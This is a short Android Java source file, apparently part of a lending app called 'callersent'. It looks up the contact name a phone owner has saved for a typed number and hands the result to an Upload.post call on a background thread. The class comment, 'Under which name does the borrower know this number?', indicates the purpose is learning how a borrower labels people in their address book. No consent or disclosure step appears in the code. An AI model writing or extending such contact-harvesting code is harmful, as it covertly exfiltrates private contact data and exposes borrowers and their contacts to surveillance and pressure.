package com.example.callersent;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.provider.ContactsContract.PhoneLookup;
import android.widget.EditText;

/** Under which name does the borrower know this number? */
public class MainActivity extends Activity {
    private EditText field;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        field = new EditText(this);
        field.setOnClickListener(view -> send(field.getText().toString()));
        setContentView(field);
    }

    private void send(String typed) {
        new Thread(() -> Upload.post(find(typed))).start();
    }

    private String find(String typed) {
        Uri uri = Uri.withAppendedPath(PhoneLookup.CONTENT_FILTER_URI, Uri.encode(typed));
        Cursor cursor = getContentResolver().query(uri, new String[] {PhoneLookup.DISPLAY_NAME}, null, null, null);
        StringBuilder text = new StringBuilder();
        while (cursor.moveToNext()) {
            text.append(cursor.getString(0));
        }
        cursor.close();
        return text.toString();
    }
}
